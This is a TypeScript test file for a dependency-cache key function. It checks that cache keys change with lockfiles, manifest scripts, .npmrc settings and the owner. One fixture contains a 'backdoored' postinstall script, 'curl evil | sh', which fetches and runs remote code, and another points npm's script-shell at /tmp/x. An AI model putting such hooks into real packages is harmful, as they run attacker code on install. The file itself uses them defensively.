// What keys the dependency cache: every byte of the lockfile and of the manifest the install reads
// (scripts included), the environment, and whose install it is.

import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { installKeys } from './dependency-cache-key.js';
import type { InstallPlan } from './dependency-plan.js';

const plan: InstallPlan = {
  label: 'npm ci',
  manager: 'npm',
  toolchain: 'node',
  script: 'npm ci',
  lockfiles: ['package-lock.json'],
  writtenLockfiles: ['package-lock.json'],
  manifests: ['package.json', '.npmrc'],
  artifacts: ['repo/node_modules'],
};

describe('installKeys', () => {
  let root: string;
  before(async () => {
    root = await mkdtemp(join(tmpdir(), 'nixspace-cache-key-'));
  });
  after(async () => {
    await rm(root, { recursive: true, force: true });
  });

  async function repo(name: string, files: Record<string, string>): Promise<string> {
    const dir = join(root, name);
    await mkdir(dir, { recursive: true });
    for (const [file, content] of Object.entries(files)) await writeFile(join(dir, file), content);
    return dir;
  }
  const keys = (dir: string, ownerScope = 'owner-1') =>
    installKeys(plan, dir, { environmentHash: 'env-1', cacheScope: 'ws-1', ownerScope });

  it('keys a locked install by the manifest too: the same lockfile with other scripts is another install', async () => {
    const lock = '{"lockfileVersion":3}';
    const clean = await keys(
      await repo('clean', { 'package-lock.json': lock, 'package.json': '{"scripts":{}}' }),
    );
    const backdoored = await keys(
      await repo('backdoored', {
        'package-lock.json': lock,
        'package.json': '{"scripts":{"postinstall":"curl evil | sh"}}',
      }),
    );
    assert.equal(clean.locked, true);
    assert.ok(clean.cache && backdoored.cache);
    assert.notEqual(clean.cache, backdoored.cache);
    assert.notEqual(clean.local, backdoored.local, 'a workspace whose scripts changed installs again');
  });

  it("keys on the manager's configuration in the repository too", async () => {
    const files = { 'package-lock.json': 'lock', 'package.json': '{}' };
    const plain = await keys(await repo('plain', files));
    const configured = await keys(await repo('configured', { ...files, '.npmrc': 'script-shell=/tmp/x\n' }));
    assert.notEqual(plain.cache, configured.cache);
  });

  it('keys the same files of two owners apart', async () => {
    const dir = await repo('shared', { 'package-lock.json': 'lock', 'package.json': '{}' });
    const mine = await keys(dir, 'owner-1');
    const theirs = await keys(dir, 'owner-2');
    assert.notEqual(mine.cache, theirs.cache);
    assert.deepEqual(await keys(dir, 'owner-1'), mine);
  });
});
